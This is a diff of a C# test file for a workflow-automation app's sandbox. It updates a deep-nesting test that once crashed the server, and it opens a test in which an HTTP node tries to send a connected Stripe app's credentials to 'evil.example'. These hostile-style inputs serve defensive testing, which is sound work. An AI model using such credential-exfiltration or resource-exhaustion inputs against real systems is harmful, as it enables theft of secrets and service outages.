@@ -90,13 +90,16 @@ public abstract class ExecuteTests(PatchbayApp app)
         {
             await AssertNodeFailsAsync(client, code, message);
         }
-        // 100,000 levels serialized inside one native call (it crashed the server before sandboxes): the sandbox
-        // finishes it with the right answer (100,001 arrays: 200,002 brackets); whatever the machine, the server is not taken down.
+        // 100,000 levels serialized inside one native call (it crashed the server before sandboxes): the sandbox either
+        // finishes it with the right answer (100,001 arrays: 200,002 brackets) or, on a starved machine, stops it at the
+        // time limit; never another outcome, and the server stays up (checked below).
         var (_, deep) = await PublishAsync(client, Graph([Node("start", "start"),
             Node("deep", "code", new { code = "let o = []; for (let i = 0; i < 100000; i++) o = [o]; return JSON.stringify(o).length;" })], [Edge("start", "deep")]));
-        var deepRun = await ApiAssert.OkAsync(await client.SendAsync(Execute(deep, new { }, sync: true), Ct));
+        using var deepResponse = await client.SendAsync(Execute(deep, new { }, sync: true), Ct);
+        var deepRun = System.Text.Json.JsonDocument.Parse(await deepResponse.Content.ReadAsStringAsync(Ct)).RootElement;
         var deepNode = (await ExecutionAsync(client, deepRun.Str("execution_id"))).GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "deep");
-        Assert.Equal(200002, deepNode.GetProperty("latest_output").GetInt32());
+        if (deepNode.Str("node_status") == "Errored") Assert.Contains("the script ran longer than", deepNode.Str("error"));
+        else Assert.Equal(200002, deepNode.GetProperty("latest_output").GetInt32());
         // A connected app's credentials go only to its own API.
         var (_, leak) = await PublishAsync(client, Graph([Node("start", "start"), Node("steal", "http", new { app = "stripe", path = "https://evil.example/x" })],
             [Edge("start", "steal")]));
